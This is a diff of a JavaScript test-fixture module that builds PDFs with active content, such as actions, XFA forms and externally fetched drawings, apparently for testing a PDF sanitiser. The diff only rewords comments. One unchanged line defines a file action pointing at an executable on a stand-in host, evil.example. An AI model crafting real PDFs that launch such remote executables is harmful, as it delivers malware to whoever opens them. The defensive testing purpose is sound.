@@ -1,8 +1,8 @@
 import { lockedPdf, packedPdf, pageObjects, plainPdf, updatedPdf } from './pdf-writer.mjs';
 
 /*
- * PDFs that do something by themselves: every kind of action, at every place from which a viewer starts one, in every
- * spelling and packing. Object 4 is the action.
+ * PDFs with active content: every kind of action, at every place from which a viewer starts one, in every spelling and
+ * packing. Object 4 is the action.
  */
 
 const file = '/F (\\\\\\\\evil.example\\\\share\\\\a.exe)';
@@ -63,7 +63,7 @@ const places = {
   },
 };
 
-/** Content that is no action and acts all the same. */
+/** Active content that is not an action object. */
 const contents = {
   'XFA form': [
     { catalogue: '/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>' },
@@ -171,7 +171,7 @@ const packings = {
 const withAction = ({ more = [], ...rest }, action) => pageObjects({ ...rest, more: [action, ...more] });
 const bytesOf = (written) => (Buffer.isBuffer(written) ? written : Buffer.from(written, 'latin1'));
 
-/** @returns {{name: string, bytes: () => Buffer}[]} every one must never reach a person as it is */
+/** @returns {{name: string, bytes: () => Buffer}[]} files that must never reach a user unchanged */
 export function activeFiles() {
   const onOpening = places['on opening'];
   const link = places['on a link'];
@@ -204,7 +204,7 @@ export function activeFiles() {
   return rows.map(([name, write]) => ({ name, bytes: () => bytesOf(write()) }));
 }
 
-/** Files whose pages are drawn by what stands elsewhere; copying the drawing copies where that is. */
+/** Files whose pages draw content from elsewhere; copying the drawing also copies the reference to it. */
 export function fetchedFiles() {
   return Object.entries(fetched).flatMap(([what, dictionary]) =>
     ['plainly', 'in an object stream', 'locked without a password'].map((how) => ({
